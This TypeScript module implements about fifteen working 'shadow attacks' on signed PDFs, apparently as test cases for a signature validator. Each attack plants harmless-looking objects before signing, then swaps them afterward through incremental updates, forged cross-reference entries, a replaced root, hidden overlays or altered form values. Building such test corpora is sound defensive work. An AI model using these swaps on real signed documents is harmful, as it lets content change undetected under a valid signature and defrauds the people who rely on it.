import type { IncrementWriter } from "@camtay/worker/pdf/sign/increment-writer.ts";
import { openPdf, type PdfFile } from "@camtay/worker/pdf/strict-reader.ts";
import {
  array,
  dict,
  isKind,
  name,
  type PdfDict,
  type PdfRef,
  type PdfValue,
  stream,
  withEntries,
} from "@camtay/worker/pdf/syntax/objects.ts";
import { appended } from "./file-attacks.ts";

/** Something harmless-looking planted before signing, and the swap made after it (shadow attacks: hide, replace, hide and replace). */
export interface ShadowAttack {
  readonly name: string;
  readonly plant: (original: Uint8Array) => Uint8Array;
  readonly swap: (signed: Uint8Array) => Uint8Array;
}

const page = (file: PdfFile): { reference: PdfRef; entries: PdfDict } => {
  const [reference] = file.items(file.dict(file.catalog.entries.get("Pages"))?.entries.get("Kids")) ?? [];
  const entries = file.dict(reference);
  if (!isKind(reference, "ref") || entries === null) throw new RangeError("no page");
  return { reference, entries };
};
const text = (value: string): PdfValue => ({ kind: "string", bytes: Buffer.from(value), hex: false });
const overlay = (paint: string) =>
  stream({ Type: name("XObject"), Subtype: name("Form"), BBox: array([0, 0, 595, 842]) }, Buffer.from(paint));
const COVER = "1 g 60 480 400 60 re f";

/** Objects planted by `plant`, found again by their place: the last ones before the signature's own. */
const planted = new Map<string, PdfRef>();

const withOverlay = (original: Uint8Array, key: string, paint: string): Uint8Array =>
  appended(original, (file, writer) => {
    const { reference, entries } = page(file);
    const form = writer.add(overlay(paint));
    planted.set(key, form);
    const draw = writer.add(stream({}, Buffer.from("q /Shadow Do Q")));
    const resources = file.dict(entries.entries.get("Resources")) ?? dict({});
    const old = entries.entries.get("Contents");
    const list = isKind(old, "array") ? old.items : old === undefined ? [] : [old];
    writer.place(
      reference,
      withEntries(entries, { Resources: withEntries(resources, { XObject: dict({ Shadow: form }) }), Contents: array([...list, draw]) }),
    );
  });

const placed = (key: string): PdfRef => planted.get(key) ?? { kind: "ref", number: 1, generation: 0 };

const rewrite = (signed: Uint8Array, change: (file: PdfFile, writer: IncrementWriter) => void): Uint8Array => appended(signed, change);

const withAnnotation = (original: Uint8Array, key: string, more: Record<string, PdfValue>): Uint8Array =>
  appended(original, (file, writer) => {
    const { reference, entries } = page(file);
    const note = writer.add(
      dict({ Type: name("Annot"), Subtype: name("Square"), Rect: array([60, 480, 460, 540]), F: 4, IC: array([1, 1, 1]), ...more }),
    );
    planted.set(key, note);
    writer.place(reference, withEntries(entries, { Annots: array([note]) }));
  });

const current = (file: PdfFile, key: string): PdfDict => file.dict(placed(key)) ?? dict({});

/** Cross-reference section in table form that names one object at any offset. */
const tableSection = (signed: Uint8Array, number: number, offset: number): Uint8Array => {
  const file = openPdf(signed);
  const root = file.rootRef;
  const at = signed.length;
  const row = `${String(offset).padStart(10, "0")} 00000 n \n`;
  const prev = file.sections[0]?.offset ?? 0;
  return Buffer.concat([
    signed,
    Buffer.from(
      `xref\n${number} 1\n${row}trailer\n<</Size ${file.size}/Root ${root.number} 0 R/Prev ${prev}>>\nstartxref\n${at}\n%%EOF\n`,
      "latin1",
    ),
  ]);
};

export const SHADOW_ATTACKS: readonly ShadowAttack[] = [
  {
    name: "hide: covering form emptied",
    plant: (original) => withOverlay(original, "hide", COVER),
    swap: (signed) => rewrite(signed, (_, writer) => writer.place(placed("hide"), overlay(""))),
  },
  {
    name: "hide: covering form filled in",
    plant: (original) => withOverlay(original, "fill", ""),
    swap: (signed) => rewrite(signed, (_, writer) => writer.place(placed("fill"), overlay(COVER))),
  },
  {
    name: "hide: covering form freed",
    plant: (original) => withOverlay(original, "free", COVER),
    swap: (signed) => tableSection(signed, placed("free").number, 0),
  },
  {
    name: "hide: covering annotation hidden",
    plant: (original) => withAnnotation(original, "note", {}),
    swap: (signed) => rewrite(signed, (file, writer) => writer.place(placed("note"), withEntries(current(file, "note"), { F: 2 }))),
  },
  {
    name: "hide: covering annotation taken off the page",
    plant: (original) => withAnnotation(original, "off", {}),
    swap: (signed) =>
      rewrite(signed, (file, writer) => {
        const { reference, entries } = page(file);
        const kept = (file.items(entries.entries.get("Annots")) ?? []).filter(
          (item) => !isKind(item, "ref") || item.number !== placed("off").number,
        );
        writer.place(reference, withEntries(entries, { Annots: array(kept) }));
      }),
  },
  {
    name: "replace: page content redirected to a planted stream",
    plant: (original) =>
      appended(original, (_, writer) => void planted.set("other", writer.add(stream({}, Buffer.from("BT /F1 30 Tf 60 500 Td (9) Tj ET"))))),
    swap: (signed) =>
      rewrite(signed, (file, writer) => {
        const { reference, entries } = page(file);
        writer.place(reference, withEntries(entries, { Contents: placed("other") }));
      }),
  },
  {
    name: "replace: planted page becomes the page",
    plant: (original) =>
      appended(original, (file, writer) => void planted.set("page", writer.add(withEntries(page(file).entries, { Rotate: 90 })))),
    swap: (signed) =>
      rewrite(signed, (file, writer) => {
        const pages = file.catalog.entries.get("Pages");
        const node = file.dict(pages);
        if (isKind(pages, "ref") && node !== null) writer.place(pages, withEntries(node, { Kids: array([placed("page")]) }));
      }),
  },
  {
    name: "replace: value of a text field over the content",
    plant: (original) =>
      appended(original, (file, writer) => {
        const { reference, entries } = page(file);
        const field = writer.add(
          dict({
            Type: name("Annot"),
            Subtype: name("Widget"),
            FT: name("Tx"),
            T: text("So"),
            V: text("100"),
            Rect: array([60, 480, 460, 540]),
            F: 4,
            DA: text("/Helv 20 Tf"),
          }),
        );
        planted.set("field", field);
        writer.place(reference, withEntries(entries, { Annots: array([field]) }));
        writer.place(file.rootRef, withEntries(file.catalog, { AcroForm: dict({ Fields: array([field]) }) }));
      }),
    swap: (signed) =>
      rewrite(signed, (file, writer) => writer.place(placed("field"), withEntries(current(file, "field"), { V: text("900") }))),
  },
  {
    name: "replace: default appearance of the form",
    plant: (original) =>
      appended(original, (file, writer) => {
        const form = writer.add(dict({ Fields: array([]), DA: text("/Helv 12 Tf"), SigFlags: 3 }));
        planted.set("form", form);
        writer.place(file.rootRef, withEntries(file.catalog, { AcroForm: form }));
      }),
    swap: (signed) =>
      rewrite(signed, (file, writer) => {
        const form = file.catalog.entries.get("AcroForm");
        if (isKind(form, "ref"))
          writer.place(form, withEntries(file.dict(form) ?? dict({}), { DA: text("/Helv 0 Tf"), NeedAppearances: true }));
      }),
  },
  {
    name: "hide and replace: planted catalog becomes the root",
    plant: (original) =>
      appended(original, (file, writer) => void planted.set("root", writer.add(withEntries(file.catalog, { PageMode: name("UseNone") })))),
    swap: (signed) => {
      const other = rewrite(signed, (_, writer) => void writer.add(dict({})));
      const tail = other.subarray(signed.length);
      const { number } = openPdf(signed).rootRef;
      const changed = Buffer.from(tail)
        .toString("latin1")
        .replace(`/Root ${number} 0 R`, `/Root ${placed("root").number} 0 R`);
      return Buffer.concat([signed, Buffer.from(changed, "latin1")]);
    },
  },
  {
    name: "optional content switched off",
    plant: (original) =>
      appended(original, (file, writer) => {
        const group = writer.add(dict({ Type: name("OCG"), Name: text("Lop") }));
        const properties = writer.add(dict({ OCGs: array([group]), D: dict({ ON: array([group]) }) }));
        planted.set("group", group);
        planted.set("properties", properties);
        writer.place(file.rootRef, withEntries(file.catalog, { OCProperties: properties }));
      }),
    swap: (signed) =>
      rewrite(signed, (_, writer) =>
        writer.place(placed("properties"), dict({ OCGs: array([placed("group")]), D: dict({ OFF: array([placed("group")]) }) })),
      ),
  },
  {
    name: "existing object redirected to bytes planted in a stream",
    plant: (original) => {
      const { reference } = page(openPdf(original));
      return appended(original, (file, writer) => {
        const body = `\n${reference.number} 0 obj\n<</Type/Page/Parent ${refText(file)}/MediaBox[0 0 100 100]>>\nendobj\n`;
        planted.set("bytes", writer.add(stream({}, Buffer.from(body))));
      });
    },
    swap: (signed) => {
      const { reference } = page(openPdf(signed));
      const at = Buffer.from(signed).lastIndexOf(`\n${reference.number} 0 obj\n<</Type/Page/Parent`);
      return tableSection(signed, reference.number, at + 1);
    },
  },
  {
    name: "resources of the page reached through the validation store",
    plant: (original) =>
      appended(original, (file, writer) => {
        const { reference, entries } = page(file);
        const resources = writer.add(file.dict(entries.entries.get("Resources")) ?? dict({}));
        planted.set("resources", resources);
        writer.place(reference, withEntries(entries, { Resources: resources }));
      }),
    swap: (signed) =>
      rewrite(signed, (file, writer) => {
        const other = writer.add(dict({ Type: name("Font"), Subtype: name("Type1"), BaseFont: name("Symbol") }));
        writer.place(placed("resources"), dict({ Font: dict({ F1: other }) }));
        writer.place(file.rootRef, withEntries(file.catalog, { DSS: dict({ Type: name("DSS"), VRI: placed("resources") }) }));
      }),
  },
  {
    name: "content stream of the page reached through the validation store",
    plant: (original) => original,
    swap: (signed) =>
      rewrite(signed, (file, writer) => {
        const contents = page(file).entries.entries.get("Contents");
        const target = isKind(contents, "array") ? contents.items[0] : contents;
        if (!isKind(target, "ref")) throw new RangeError("no content");
        writer.place(target, stream({}, Buffer.from("BT /F1 30 Tf 60 500 Td (9) Tj ET")));
        writer.place(file.rootRef, withEntries(file.catalog, { DSS: dict({ Type: name("DSS"), CRLs: array([target]) }) }));
      }),
  },
  {
    name: "page tree reached through a new signature field",
    plant: (original) => original,
    swap: (signed) =>
      rewrite(signed, (file, writer) => {
        const { reference, entries } = page(file);
        const form = file.dict(file.catalog.entries.get("AcroForm")) ?? dict({});
        const value = writer.add(dict({ Type: name("Sig"), Page: reference }));
        const field = writer.add(
          dict({ FT: name("Sig"), T: text("X"), V: value, Subtype: name("Widget"), Rect: array([0, 0, 0, 0]), Extra: reference }),
        );
        writer.place(reference, withEntries(entries, { MediaBox: array([0, 400, 595, 842]) }));
        const fields = array([...(file.items(form.entries.get("Fields")) ?? []), field]);
        const formRef = file.catalog.entries.get("AcroForm");
        if (isKind(formRef, "ref")) writer.place(formRef, withEntries(form, { Fields: fields }));
        else writer.place(file.rootRef, withEntries(file.catalog, { AcroForm: withEntries(form, { Fields: fields }) }));
      }),
  },
  {
    name: "metadata object that is also drawn",
    plant: (original) => withOverlay(original, "meta", ""),
    swap: (signed) =>
      rewrite(signed, (file, writer) => {
        writer.place(placed("meta"), overlay(COVER));
        writer.place(file.rootRef, withEntries(file.catalog, { Metadata: placed("meta") }));
      }),
  },
];

const refText = (file: PdfFile): string => {
  const pages = file.catalog.entries.get("Pages");
  return isKind(pages, "ref") ? `${pages.number} 0 R` : "1 0 R";
};
